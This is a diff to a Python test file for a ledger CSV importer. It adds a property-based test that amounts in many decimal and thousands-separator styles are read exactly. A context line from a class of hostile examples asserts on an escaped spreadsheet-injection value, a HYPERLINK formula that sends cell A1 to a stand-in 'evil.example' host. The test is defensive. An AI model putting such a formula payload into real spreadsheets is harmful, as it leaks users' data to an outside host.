@@ -9,13 +9,16 @@ from __future__ import annotations
 import csv
 import json
 import time
+from decimal import Decimal
 from pathlib import Path
 
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
 from ledger import importer
 from ledger.errors import BadInput
-from ledger.statements import show
+from ledger.statements import csvfile, show
 
 from conftest import snapshot
 
@@ -295,3 +298,24 @@ class TestShippedHostileExamples:
             (row,) = list(csv.DictReader(handle))
         assert row["payer"] == '\'=HYPERLINK("http://evil.example/?leak="&A1,"Invoice")'
         assert (row["amount"], row["direction"], row["reference"], row["memo"]) == ("25.50", "debit", "'+R2", "'-2+3")
+
+
+@settings(max_examples=200, deadline=None)
+@given(
+    cents=st.integers(min_value=1, max_value=10**14 - 1),
+    style=st.sampled_from(
+        [(".", ","), (".", ""), (",", "."), (",", " "), (",", "\u00a0"), (",", "\u202f"), (".", "'"), (".", "\u2009")]
+    ),
+    out=st.booleans(),
+)
+def test_any_amount_in_any_style_is_read_exactly(cents, style, out):
+    """Whatever the decimal mark and thousands separator, the amount read is the amount written, to the cent."""
+    decimal, thousands = style
+    whole, fraction = divmod(cents, 100)
+    digits = f"{whole:,}".replace(",", "\x00").replace("\x00", thousands)
+    text = f"{'-' if out else ''}{digits}{decimal}{fraction:02d}"
+    mapping = importer.Mapping(
+        columns={"amount": "A"}, decimal=decimal, thousands=" " if thousands.isspace() else thousands
+    )
+    credit, amount, _ = csvfile._money({"amount": text}, mapping)
+    assert (credit, Decimal(amount)) == (not out, Decimal(cents) / 100)
